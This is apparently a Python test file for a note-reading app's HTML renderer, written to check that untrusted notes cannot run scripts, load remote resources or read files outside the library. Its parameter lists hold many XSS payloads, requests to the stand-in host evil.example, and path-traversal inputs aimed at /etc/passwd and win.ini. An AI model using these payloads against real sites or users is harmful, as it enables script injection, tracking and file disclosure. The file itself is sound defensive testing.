"""Notes come from strangers: nothing in one runs a script, asks the network, or reads outside the library."""

import re
from html.parser import HTMLParser

import pytest

from reader.notes.note import read_note
from reader.notes.page import FileHrefs, WindowHrefs, document, render

TAGS = {
    "a",
    "abbr",
    "b",
    "bdi",
    "blockquote",
    "br",
    "code",
    "del",
    "details",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "hr",
    "i",
    "img",
    "input",
    "kbd",
    "li",
    "mark",
    "math",
    "mfrac",
    "mi",
    "mn",
    "mo",
    "mrow",
    "mstyle",
    "msup",
    "mtext",
    "ol",
    "p",
    "pre",
    "section",
    "span",
    "strong",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
ATTRIBUTES = {
    "alt",
    "checked",
    "class",
    "data-kind",
    "data-n",
    "dir",
    "disabled",
    "display",
    "href",
    "id",
    "lang",
    "open",
    "src",
    "start",
    "title",
    "type",
    "mathvariant",
    "stretchy",
    "fence",
    "form",
}
HREF = re.compile(r"https?://|mailto:|#|seek:(abcdefghijk)?\?t=|note:channel/|phantom:|choose:")
SRC = re.compile(r"alongside:/file/(?!.*\.\.)")

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<IMG """><script>x</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<p/onclick=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=import href=x>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>y</x>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<a href='#' onclick='alert(1)'>x</a>",
    "<a\nhref\n=\njavascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](javascript://example.org/%0aalert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x.png)',
    '![](x.png"onerror="alert(1))',
    "<javascript:alert(1)>",
    '<http://example.org/"onmouseover=alert(1)>',
    'https://example.org/"onmouseover="alert(1)',
    '[[x"onmouseover="alert(1)]]',
    "[[x | <img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1) | x]]",
    "[[x | [y](javascript:alert(1))]]",
    '![[x" onerror="alert(1).png]]',
    '<a class="yt-timestamp" data-t=\'"><img src=x onerror=alert(1)>\'>x</a>',
    '<a class="yt-timestamp" data-t="N/A" onclick="alert(1)">x</a>',
    "<a class='yt-timestamp' data-t='\" onclick=\"alert(1)'>x</a>",
    '<a class="yt-timestamp" data-t="00:00:01" onclick="alert(1)" href="javascript:alert(1)">[00:00:01]</a>',
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    '$$\\class{x" onclick="alert(1)}{y}$$',
    "$\\style{background:url(//evil.example)}{x}$",
    '$a" onclick="b$',
    "$<b onclick=x>$",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    '## x" onclick="alert(1)',
    '> [!note" onclick="alert(1)] <script>alert(1)</script>\n> x',
    "> [!<img src=x onerror=alert(1)>] y",
    '```ad-note" onclick="x\n<script>x</script>\n```',
    "- [ ] <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | [x](javascript:x) |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^" onclick="alert(1)]\n\n[^" onclick="alert(1)]: x',
    "==<script>alert(1)</script>==",
    "%%<script>%%alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY x '<script>'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03<script>x</script>",
    "\x02klzzwxh:0000\x03",
    "\x02amp\x03lt;script>",
    "\ue0000\ue001<script>x</script>",
]
REQUESTS = [
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "![x](HTTPS://evil.example/p.png)",
    "![x](\\\\evil.example\\p.png)",
    "![x](ftp://evil.example/p.png)",
    "![[https://evil.example/p.png]]",
    "<img src=https://evil.example/p.png>",
    "<img src='//evil.example/p.png'>",
    "<img srcset='https://evil.example/p.png 2x'>",
    "<picture><source srcset=https://evil.example/p.png></picture>",
    "<image src=https://evil.example/p.png>",
    "<input type=image src=https://evil.example/p.png>",
    "<body background=https://evil.example/p.png>",
    "<table background=https://evil.example/p>x</table>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<style>@import 'https://evil.example';</style>",
    "x <style>*{}</style> y",
    "<link rel=stylesheet href=https://evil.example>",
    "<link rel=preconnect href=https://evil.example>",
    "<iframe src=https://evil.example></iframe>",
    "<frame src=https://evil.example>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video src=https://evil.example autoplay></video>",
    "<video poster=https://evil.example></video>",
    "<audio src=https://evil.example></audio>",
    "<track src=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<svg><image href=https://evil.example /></svg>",
    "<svg><use href=https://evil.example#x /></svg>",
    "<a href=https://ok.example ping=https://evil.example>x</a>",
    "<bgsound src=https://evil.example>",
    "<form action=https://evil.example><input type=submit></form>",
    "<math><mglyph src=https://evil.example></math>",
    "<applet code=https://evil.example>",
    "<script src=https://evil.example></script>",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "$\\includegraphics{https://evil.example/p.png}$",
]
FILES = [
    "![x](../../etc/passwd.png)",
    "![x](../../../../etc/passwd)",
    "![x](/etc/passwd)",
    "![x](%2e%2e/%2e%2e/etc/passwd)",
    "![x](..%2f..%2fetc/passwd)",
    "![x](file:///etc/passwd)",
    "![x](FILE:/etc/passwd)",
    "![x](C:\\Windows\\win.ini)",
    "![x](..\\..\\etc\\passwd)",
    "![[../../../etc/passwd.png]]",
    "![[/etc/passwd.png]]",
    "<img src=../../etc/passwd>",
    "<img src=file:///etc/passwd>",
    "<a href=file:///etc/passwd>x</a>",
    "[x](file:///etc/passwd)",
    "![x](alongside:/file/../../etc/passwd)",
    "<img src=alongside:/file/etc>",
    "<a href=alongside:/page>x</a>",
    "[x](alongside:/file/x)",
    "<a href='note:../../etc/passwd'>x</a>",
    "[x](note:../../etc/passwd)",
    "[x](seek:evilevileve?t=1)",
    "<a class=t href='seek:evilevileve?t=1'>0:01</a>",
    "[x](NOTE:a)",
    "<note:channel/x>",
    "[x](choose:a)",
    "[x](phantom:a)",
    "[x](qrc:/x)",
    "[x](chrome://settings)",
    "[x](about:blank)",
    "[x](view-source:file:///)",
    '<a href="&#xE000;0&#xE001;">x</a> [[y]]',
    "![x](images/../../../etc/passwd)",
    "![x](a/%00/../../../b)",
]


class Seen(HTMLParser):
    """What a page holds."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.hrefs, self.srcs = set(), set(), [], []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("href", "src"):
                (self.hrefs if name == "href" else self.srcs).append(value)


def seen(text, hrefs=None):
    note = read_note("channel/note.md", f"---\ntitle: T\nvideoId: abcdefghijk\n---\n{text}".encode())
    page = render(note, hrefs=hrefs or WindowHrefs(), resolve=lambda _: ())
    found = Seen()
    found.feed(page.article)
    found.close()
    return found, page.article


@pytest.mark.parametrize("text", SCRIPTS + REQUESTS + FILES)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "text {} text"])
def test_a_page_holds_only_what_it_may(frame, text):
    found, _ = seen(frame.format(text))
    assert found.tags <= TAGS
    assert found.attributes <= ATTRIBUTES
    assert all(HREF.match(href) for href in found.hrefs), found.hrefs
    assert all(SRC.match(src) for src in found.srcs), found.srcs


@pytest.mark.parametrize("text", REQUESTS)
def test_nothing_is_loaded_from_elsewhere(text):
    found, _ = seen(text)
    assert "evil" not in "".join(found.srcs)
    assert "style" not in found.attributes


@pytest.mark.parametrize("text", FILES)
def test_only_pictures_below_the_library_are_asked_for(text):
    asked = []
    seen(text, FileHrefs("channel/note.md", lambda path: asked.append(path)))
    assert all(not path.startswith(("/", "..")) and "\\" not in path and ":" not in path for path in asked), asked


def test_title_and_names_are_text():
    note = read_note(
        "<b>/x.md", b"---\ntitle: <script>alert(1)</script>\nvideoId: '\"><script>'\n---\nFrom: [[<i>]] <br/>"
    )
    page = render(note, hrefs=WindowHrefs(), resolve=lambda _: (), channel_title="<u>", video_title="<img src=x>")
    html = document(page, css="", lang='"><script>', theme='"><script>')
    assert "<script" not in html
    assert "<u>" not in html
    assert "<img" not in html


def test_prose_that_speaks_of_a_script_is_shown_whole():
    _, article = seen("The <script> tag, and all that follows.\n\nMore.")
    assert "The &lt;script&gt; tag, and all that follows." in article
    assert "More." in article
